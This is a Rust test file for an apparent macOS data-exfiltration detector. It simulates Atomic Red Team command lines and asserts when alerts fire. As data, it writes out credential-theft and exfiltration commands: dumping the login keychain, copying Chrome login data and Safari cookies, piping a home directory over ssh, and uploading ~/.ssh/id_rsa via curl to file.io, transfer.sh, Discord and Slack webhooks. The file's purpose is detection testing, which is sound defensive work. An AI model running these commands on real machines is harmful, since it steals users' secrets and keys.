//! The macOS tests of Atomic Red Team (github.com/redcanaryco/atomic-red-team, MIT, © 2018 Red Canary, Inc.) that stage data or
//! move it out, by their own command lines with default arguments, each with what must come of it.
//!
//! Most of them move harmless files they made themselves: rightly nothing is told. Where a test stages something that
//! matters, nothing is told either, until it leaves: then the staged copy is what gives it away.

use super::world::*;

const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");

/// One command of a test: what it is, and what it was seen to do.
struct Act {
    program: Program,
    line: &'static str,
    reads: &'static [&'static str],
    writes: &'static str,
    sends: &'static str,
}

const fn act(path: &'static str, line: &'static str) -> Act {
    Act { program: apple(path, path), line, reads: &[], writes: "", sends: "" }
}

impl Act {
    const fn reads(self, reads: &'static [&'static str]) -> Self {
        Self { reads, ..self }
    }

    const fn writes(self, writes: &'static str) -> Self {
        Self { writes, ..self }
    }

    const fn sends(self, sends: &'static str) -> Self {
        Self { sends, ..self }
    }
}

struct Atomic {
    /// Technique and the test's own id.
    test: &'static str,
    acts: Vec<Act>,
    /// What it leaves behind; empty when there is nothing.
    staged: &'static str,
    /// Does it matter once the staged file leaves by another shell?
    matters: bool,
}

fn atomics() -> Vec<Atomic> {
    let keychain = &["/Users/alice/Library/Keychains/login.keychain-db"];
    let logins = &["/Users/alice/Library/Application Support/Google/Chrome/Default/Login Data"];
    vec![
        Atomic {
            test: "T1005 cfb6d400-a269-4c06-a347-6d88d584d5f7",
            acts: vec![
                act("/usr/bin/osascript", "osascript -e tell|application|\"Finder\" -e duplicate|aFile|to|folder|destinationFolderPath"),
                act("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "Finder")
                    .reads(&["/Users/alice/Library/Group Containers/group.com.apple.notes/NoteStore.sqlite"])
                    .writes("/private/tmp/NoteStore.sqlite"),
            ],
            staged: "/private/tmp/NoteStore.sqlite",
            matters: true,
        },
        Atomic {
            test: "T1030 ab936c51-10f4-46ce-9144-e02137b2016a",
            acts: vec![act("/usr/bin/split", "split -b 5000000 T1030_urandom").reads(&["/private/tmp/T1030/T1030_urandom"]).writes("/private/tmp/T1030/xaa")],
            staged: "/private/tmp/T1030/xaa",
            matters: false,
        },
        Atomic {
            test: "T1048.002 4a4f31e2-46ea-4c26-ad89-f09ad1d5fe01",
            acts: vec![act("/usr/bin/curl", "curl -F file=@/opt/AtomicRedTeam/atomics/T1048.002/src/artifact -F maxDownloads=1 -F autoDelete=true https://file.io/").sends("file.io")],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1048.003 1d1abbd6-a3d3-4b2e-bef5-c59293f46eff",
            acts: vec![act("/usr/bin/python3", "python3 -m http.server 1337").reads(&["/private/tmp/victim-staging-area/victim-file.txt"])],
            staged: "/private/tmp/victim-staging-area/victim-file.txt",
            matters: false,
        },
        Atomic {
            test: "T1048 f6786cc8-beda-4915-a4d6-ac2f193bb988",
            acts: vec![act("/usr/bin/ssh", "ssh target.example.com (cd|/etc|&&|tar|-zcvf|-|*)").sends("target.example.com")],
            staged: "",
            matters: false,
        },
        // Sensitive files do leave here, over SSH to a host that is no cloud service: beyond this program, which says so.
        Atomic {
            test: "T1048 7c3cb337-35ae-4d06-bf03-3032ed2ec268",
            acts: vec![
                act("/usr/bin/tar", "tar czpf - /Users/alice").reads(keychain),
                act("/usr/bin/openssl", "openssl des3 -salt -pass atomic"),
                act("/usr/bin/ssh", "ssh atomic@target.example.com cat|>|/Users.tar.gz.enc").sends("target.example.com"),
            ],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1048 a27916da-05f2-4316-a3ee-feec67a437be",
            acts: vec![act("/usr/bin/dig", "dig @8.8.8.8 -p 53 dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.google.com")],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1074.001 39ce0303-ae16-4b9e-bb5b-4f53e8262066",
            acts: vec![
                act("/usr/bin/curl", "curl -s https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1074.001/src/Discovery.sh").sends("raw.githubusercontent.com"),
                act("/bin/sh", "sh -s").writes("/private/tmp/T1074.001_discovery.log"),
            ],
            staged: "/private/tmp/T1074.001_discovery.log",
            matters: false,
        },
        Atomic {
            test: "T1539 e57ba07b-3a33-40cd-a892-748273b9b49a",
            acts: vec![
                act("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "Finder")
                    .reads(&["/Users/alice/Library/Containers/com.apple.Safari/Data/Library/Cookies/Cookies.binarycookies"])
                    .writes("/private/tmp/Cookies.binarycookies"),
            ],
            staged: "/private/tmp/Cookies.binarycookies",
            matters: true,
        },
        // The cookies come over the debugging port: no file is read that could be seen.
        Atomic {
            test: "T1539 e43cfdaf-3fb8-4a45-8de0-7eee8741d072",
            acts: vec![act("/private/tmp/WhiteChocolateMacademiaNut/chocolate", "chocolate -d cookies -p 1337")],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1555.001 88e1fa00-bf63-4e5b-a3e1-e2ea51c8cca6",
            acts: vec![act("/usr/bin/security", "security dump-keychain -d login.keychain").reads(keychain)],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1555.001 1864fdec-ff86-4452-8c30-f12507582a93",
            acts: vec![act("/usr/bin/security", "security find-certificate -a -p").reads(keychain).writes("/private/tmp/certs.pem")],
            staged: "/private/tmp/certs.pem",
            matters: true,
        },
        Atomic {
            test: "T1555.001 e544bbcb-c4e0-4bd0-b614-b92131635f59",
            acts: vec![act("/usr/bin/security", "security import /tmp/certs.pem -k")],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1555.001 5c32102a-c508-49d3-978f-288f8a9f6617",
            acts: vec![act("/bin/cat", "cat /Users/alice/Library/Keychains/login.keychain-db").reads(keychain).writes("/private/tmp/keychain")],
            staged: "/private/tmp/keychain",
            matters: true,
        },
        Atomic {
            test: "T1555.003 c1402f7b-67ca-43a8-b5f3-3143abedc01b",
            acts: vec![act("/usr/bin/grep", "grep -q coinbase Cookies.binarycookies").reads(&["/Users/alice/Library/Cookies/Cookies.binarycookies"])],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1555.003 124e13e5-d8a1-4378-a6ee-a53cd0c7e369",
            acts: vec![act("/bin/cp", "cp /Users/alice/Library/Application|Support/Google/Chrome/Default/Login|Data /tmp/T1555.003_Login|Data").reads(logins).writes("/private/tmp/T1555.003_Login Data")],
            staged: "/private/tmp/T1555.003_Login Data",
            matters: true,
        },
        Atomic {
            test: "T1555.003 29d0c390-3cbc-4e4e-a52b-a1350ed836b7",
            acts: vec![act("/usr/bin/sqlite3", "sqlite3 file:/Users/alice/Library/Application|Support/Google/Chrome/Default/Login|Data?immutable=1 SELECT|origin_url,|username_value|FROM|logins;").reads(logins).writes("/private/tmp/T1555.003_chrome_logins.txt")],
            staged: "/private/tmp/T1555.003_chrome_logins.txt",
            matters: true,
        },
        Atomic {
            test: "T1560.001 c51cec55-28dd-4ad2-9461-1eacbc82c3a0",
            acts: vec![act("/usr/bin/zip", "zip /Users/alice/data.zip /var/log/wtmp /var/log/btmp").reads(&["/private/var/log/wtmp"]).writes("/Users/alice/data.zip")],
            staged: "/Users/alice/data.zip",
            matters: false,
        },
        Atomic {
            test: "T1560.001 cde3c2af-3485-49eb-9c1f-0ed60e9cc0af",
            acts: vec![act("/usr/bin/gzip", "gzip -k /Users/alice/victim-gzip.txt").reads(&["/Users/alice/victim-gzip.txt"]).writes("/Users/alice/victim-gzip.txt.gz")],
            staged: "/Users/alice/victim-gzip.txt.gz",
            matters: false,
        },
        Atomic {
            test: "T1560.001 7af2b51e-ad1c-498c-aca8-d3290c19535a",
            acts: vec![act("/usr/bin/tar", "tar -cvzf /Users/alice/data.tar.gz /Users/alice").reads(&["/Users/alice/.ssh/id_rsa"]).writes("/Users/alice/data.tar.gz")],
            staged: "/Users/alice/data.tar.gz",
            matters: true,
        },
        Atomic {
            test: "T1560.001 0286eb44-e7ce-41a0-b109-3da516e05a5f",
            acts: vec![
                act("/usr/bin/zip", "zip --password InsertPasswordHere /tmp/T1560/T1560 ./a ./b").writes("/private/tmp/T1560/T1560.zip"),
                act("/opt/homebrew/bin/gpg", "gpg --batch --yes --passphrase-fd 0 --output /tmp/T1560/T1560.zip.gpg -c /tmp/T1560/T1560.zip").reads(&["/private/tmp/T1560/T1560.zip"]).writes("/private/tmp/T1560/T1560.zip.gpg"),
            ],
            staged: "/private/tmp/T1560/T1560.zip.gpg",
            matters: false,
        },
        Atomic {
            test: "T1560.001 a743e3a6-e8b2-4a30-abe7-ca85d201b5d3",
            acts: vec![
                act("/usr/bin/zip", "zip -r /tmp/t1560/t1560_data.zip /tmp/t1560").writes("/private/tmp/t1560/t1560_data.zip"),
                act("/usr/bin/openssl", "openssl enc -aes-256-cbc -pass pass:atomic_enc_pass -p -in /tmp/t1560/t1560_data.zip -out /tmp/t1560/t1560_data.enc").reads(&["/private/tmp/t1560/t1560_data.zip"]).writes("/private/tmp/t1560/t1560_data.enc"),
            ],
            staged: "/private/tmp/t1560/t1560_data.enc",
            matters: false,
        },
        Atomic {
            test: "T1560.001 2794f321-55c4-4484-9eef-0557996f715a",
            acts: vec![act("/usr/bin/ditto", "ditto -c -k --sequesterRsrc --keepParent /Users/alice/Library/Keychains /tmp/T1560.001_ditto_archive.zip").reads(keychain).writes("/private/tmp/T1560.001_ditto_archive.zip")],
            staged: "/private/tmp/T1560.001_ditto_archive.zip",
            matters: true,
        },
        Atomic {
            test: "T1567.002 a4b74723-5cee-4300-91c3-5e34166909b4",
            acts: vec![act("/opt/AtomicRedTeam/rclone", "rclone copy --max-size 1700k /opt/AtomicRedTeam/T1567.002/data/ exfils3:atomic-bucket --config /opt/AtomicRedTeam/T1567.002/rclone.conf")
                .reads(&["/opt/AtomicRedTeam/T1567.002/data/a.bin"])
                .sends("atomic-bucket.s3.us-east-1.amazonaws.com")],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1567.004 40c44d16-bb49-4d14-aafa-f9ba7e6e6c5b",
            acts: vec![act("/usr/bin/curl", "curl -s -F file=@/tmp/T1567.004_loot.txt https://discord.com/api/webhooks/000000000000000000/ReplaceWithYourWebhookToken").reads(&["/private/tmp/T1567.004_loot.txt"]).sends("discord.com")],
            staged: "",
            matters: false,
        },
        Atomic {
            test: "T1567.004 c666acd6-6ff5-4d28-9490-195d89cd4337",
            acts: vec![act("/usr/bin/curl", "curl -s -X POST -H Content-type:|application/json --data {\"text\":\"secrets\"} https://hooks.slack.com/services/T00000000/B00000000/ReplaceWithYourWebhookToken").sends("hooks.slack.com")],
            staged: "",
            matters: false,
        },
    ]
}

/// Words are split at blanks; `|` stands for a blank inside a word.
fn words(line: &str) -> Vec<&'static str> {
    line.split(' ').map(|word| &*word.replace('|', " ").leak()).collect()
}

fn play_acts(w: &mut World, acts: &[Act]) -> f64 {
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let mut at = 1.0;
    for act in acts {
        let p = w.spawn(at, &shell, act.program, &words(act.line));
        for path in act.reads {
            w.open(at + 0.1, &p, path);
        }
        if !act.writes.is_empty() {
            w.write(at + 0.2, &p, act.writes);
        }
        if !act.sends.is_empty() {
            w.upload(at + 0.3, &p, act.sends, 20_000);
        }
        w.exit(at + 1.0, &p);
        at += 2.0;
    }
    at
}

#[test]
fn atomic_tests_by_themselves_are_quiet() {
    for atomic in atomics() {
        let mut w = World::new();
        play_acts(&mut w, &atomic.acts);
        let told = w.tell();
        assert!(told.alerts().is_empty(), "{}: {:#?}", atomic.test, told.alerts());
    }
}

#[test]
fn what_atomic_tests_stage_is_told_when_it_leaves() {
    let mut mattered = 0;
    for atomic in atomics().into_iter().filter(|atomic| !atomic.staged.is_empty()) {
        let mut w = World::new();
        let at = play_acts(&mut w, &atomic.acts) + 60.0;
        let other = w.launch(at, ZSH, &["-zsh"]);
        let curl = w.spawn(
            at + 1.0,
            &other,
            apple("/usr/bin/curl", "com.apple.curl"),
            &["curl", "-T", atomic.staged, "https://transfer.sh/"],
        );
        w.open(at + 1.1, &curl, atomic.staged);
        w.upload(at + 1.2, &curl, "transfer.sh", 30_000);
        let told = w.tell();
        if atomic.matters {
            let alert = told.alert();
            assert_eq!(alert.service.as_deref(), Some("transfer-sh"), "{}", atomic.test);
            mattered += 1;
        } else {
            assert!(told.alerts().is_empty(), "{}: {:#?}", atomic.test, told.alerts());
        }
    }
    assert_eq!(mattered, 8);
}

/// The tests that send, with a file that matters in the place of their harmless one: same command, another verdict.
#[test]
fn atomic_tests_that_send_are_told_when_it_matters() {
    let key = "/Users/alice/.ssh/id_rsa";
    for (line, host, technique) in [
        (
            "curl -F file=@/Users/alice/.ssh/id_rsa -F maxDownloads=1 -F autoDelete=true https://file.io/",
            "file.io",
            "T1567.002",
        ),
        (
            "rclone copy --max-size 1700k /Users/alice/.ssh/id_rsa exfils3:atomic-bucket --config /opt/AtomicRedTeam/rclone.conf",
            "atomic-bucket.s3.us-east-1.amazonaws.com",
            "T1567.002",
        ),
        (
            "curl -s -F file=@/Users/alice/.ssh/id_rsa https://discord.com/api/webhooks/0/T",
            "discord.com",
            "T1567.004",
        ),
        (
            "curl -s -X POST --data @/Users/alice/.ssh/id_rsa https://hooks.slack.com/services/T0/B0/T",
            "hooks.slack.com",
            "T1567.004",
        ),
    ] {
        let mut w = World::new();
        let words = words(line);
        let path: &'static str = format!("/usr/bin/{}", words[0]).leak();
        let p = w.launch(1.0, adhoc(path, path), &words);
        w.upload(2.0, &p, host, 20_000);
        let told = w.tell();
        let alert = told.alert();
        assert_eq!(alert.reads[0].path.to_string(), key, "{line}");
        let techniques = alert.rules.iter().flat_map(|rule| &rule.techniques);
        assert!(techniques.into_iter().any(|id| **id == *technique), "{line}: {:?}", alert.rules);
    }
}
